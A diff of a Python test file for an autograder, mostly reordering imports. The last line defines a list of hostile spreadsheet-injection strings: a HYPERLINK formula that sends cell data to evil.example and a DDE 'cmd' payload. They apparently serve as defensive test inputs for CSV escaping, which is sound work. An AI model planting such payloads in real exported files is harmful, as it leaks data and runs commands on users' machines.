@@ -15,15 +15,22 @@ from pathlib import Path
 
 import pytest
 
-from autograder.report import csvsafe
 from autograder.chapter_spec import ChapterSpec, ExerciseSpec
+from autograder.cli import main
+from autograder.printable import printable
+from autograder.report import csvsafe
 from autograder.report.lms import write_lms_files
+from autograder.report.similarity import (
+    MIN_SHARED,
+    THRESHOLD,
+    Document,
+    Flag,
+    SimilarityReport,
+    compare_exercise,
+    write_report,
+)
 from autograder.report.tables import write_grades_csv, write_report_csv
 from autograder.results import ExerciseOutcome, FileRow, GradeResult
-from autograder.report.similarity import (MIN_SHARED, THRESHOLD, Document, Flag, SimilarityReport,
-                                   compare_exercise, write_report)
-from autograder.printable import printable
-from autograder.cli import main
 from tests.adversarial.chapters import FIXTURE, FIXTURES, released_copy
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+1+cmd|' /C calc'!A0",
